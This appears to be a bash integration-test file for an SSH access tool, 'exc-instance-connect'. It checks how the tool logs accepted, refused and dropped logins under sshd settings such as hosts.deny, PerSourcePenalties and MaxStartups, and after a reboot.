    for level in QUIET ERROR; do
        _sshd_with c "LogLevel $level"
        push c alice quiet --ttl 300 --request-id "c-$level"
        lets_in c alice quiet
        _told c "accepted    alice, request c-$level, key SHA256:.*, session of [0-9] s: sshd.s line about how it was let in is not in the journal"
    done
    same '' "$(in_machine c exc-instance-connect log | grep -E 'not by|another way' || true)"
}

# short: no
a_dropped_connection_is_shown() {
    _another x
    new_key k
    push x alice k --ttl 300
    echo 'sshd: 127.0.0.1' | in_machine x tee -a /etc/hosts.deny >/dev/null
    fails machine_ssh x -i k alice true
    _told x 'dropped     a connection from 127\.0\.0\.1: sshd dropped the connection before authentication: the address may not connect \(hosts\.deny\)$'
    in_machine x sed -i '$d' /etc/hosts.deny
    if [[ $suite != bookworm ]]; then
        in_machine x rm /etc/ssh/sshd_config.d/05-no-penalties.conf
        _sshd_with x 'PerSourcePenalties authfail:60s'
        new_key other
        refuses x alice other
        fails machine_ssh x -i k alice true
        _told x 'dropped     a connection from 127\.0\.0\.1 port [0-9]+: sshd dropped the connection before authentication: failed authentication \(PerSourcePenalties\)$'
    fi
    in_machine x exc-instance-connect log --json | grep '"kind":"drop"'
}

# _is_told M KEY PATTERN: the log has such a line after another login.
_is_told() {
    lets_in "$1" alice "$2" && in_machine "$1" exc-instance-connect log | grep -E -- "$3"
}

# short: no
the_number_of_dropped_connections_is_shown() {
    _another x
    new_key k
    _sshd_with x 'MaxStartups 2:100:2'
    push x alice k --connections 0
    in_machine x bash -c 'exec 3<>/dev/tcp/127.0.0.1/22 4<>/dev/tcp/127.0.0.1/22
        read -r -u 3 && read -r -u 4
        for ((i = 0; i < 40; i++)); do : </dev/tcp/127.0.0.1/22; done'
    # sshd writes the number with a later connection: since 9.8 with one that it drops, a minute after the last.
    if [[ $suite == bookworm ]]; then
        wait_for _is_told x k 'dropped     connections: sshd dropped 40 before authentication, within .*: too many others had not logged in \(MaxStartups\)$'
    else
        wait_for _is_told x k 'dropped     a connection from 127\.0\.0\.1 port [0-9]+: sshd dropped the connection before authentication: too many others had not logged in \(MaxStartups\)$'
    fi
}

# _doctor_warns M PATTERN: in words that match.
_doctor_warns() {
    in_machine "$1" exc-instance-connect doctor --user alice >doctor.txt || true
    grep -E -- "$2" doctor.txt || {
        cat doctor.txt
        return 1
    }
}

# Debian 13's sshd has PerSourcePenalties by default.
# short: no
# suites: trixie
quick_logins_with_a_used_key_shut_the_address_out() {
    local tries
    _another x
    # Nor as the trees of these machines have it.
    in_machine x rm /etc/ssh/sshd_config.d/{05-no-penalties,90-tests}.conf
    says '^persourcepenalties .*authfail:' in_machine x sshd -T
    in_machine x systemctl restart ssh
    new_key k
    push x alice k --ttl 300
    lets_in x alice k
    for ((tries = 1; tries < 20; tries++)); do
        fails machine_ssh x -i k alice true 2>ssh.txt
        grep -q 'Permission denied' ssh.txt || break
    done
    echo "dropped after $tries more logins"
    ((tries < 20))
    _told x 'dropped     a connection from 127\.0\.0\.1 port [0-9]+: sshd dropped the connection before authentication: failed authentication \(PerSourcePenalties\)$'
    _told x "refused     alice from .*, key $(fingerprint k.pub | sed 's/+/\\+/g'): other connections hold all slots of the key;"
    _doctor_warns x 'sshd dropped [0-9]+ connections? before authentication, the last from 127\.0\.0\.1: failed authentication \(PerSourcePenalties\)'
    _doctor_warns x 'a connection of alice was refused the key SHA256:.* push with --connections N, or 0'
}

# short: no
connections_beyond_max_startups_are_shown() {
    local held
    _another y
    _sshd_with y 'MaxStartups 1' 'LoginGraceTime 300'
    new_key k
    push y alice k --ttl 300
    # One that says nothing, and is not logged in.
    in_machine y bash -c 'exec 3<>/dev/tcp/127.0.0.1/22; read -r -u 3; echo there; exec sleep 600' >held &
    held=$!
    wait_for grep -q there held
    fails machine_ssh y -i k alice true
    _told y 'dropped     a connection from 127\.0\.0\.1 port [0-9]+: sshd dropped the connection before authentication: too many others had not logged in \(MaxStartups\)$'
    _doctor_warns y 'sshd dropped [0-9]+ connections? before authentication, the last from 127\.0\.0\.1: too many others had not logged in \(MaxStartups\)'
    kill "$held"
}

# short: no
after_a_reboot_what_was_before_is_still_told() {
    _another r
    in_machine r mkdir -p /var/log/journal
    in_machine r systemd-tmpfiles --create --prefix /var/log/journal
    in_machine r journalctl --flush
    new_key a
    new_key b
    push r alice a --request-id b-1
    lets_in r alice a
    push r alice b --request-id b-2
    machine_reboot r
    push r alice b --request-id b-3
    in_machine r exc-instance-connect log >shown
    grep -E 'accepted    alice .* request b-1, ' shown
    grep -E 'unknown     alice, request b-2, .*: the machine was started again, and no use of it is in the journal' shown
    grep -E 'waiting     alice, request b-3, .*: no use of it is in the journal yet' shown
    same 3 "$(wc -l <shown)"
}

# _copies KEY: by scp, which opens a connection of its own.
_copies() {
    local directory
    directory=$(machine_directory m)
    nsenter -t "$(<"$directory/leader")" -n -- scp -F "$directory/ssh_config" -i "$1" "$1.pub" alice@127.0.0.1:
}

# Others that open several are in clients_test.sh.
scp_after_ssh_needs_two_connections() {
    local n
    for n in 1 2; do
        new_key "k$n"
        push m alice "k$n" --connections "$n"
        lets_in m alice "k$n"
    done
    _copies k2
    fails_with 'Permission denied' _copies k1
    _told m "refused     alice from .*, key $(fingerprint k1.pub | sed 's/+/\\+/g'): other connections hold all slots of the key; for a client that opens several, push with --connections N, or 0$"
}
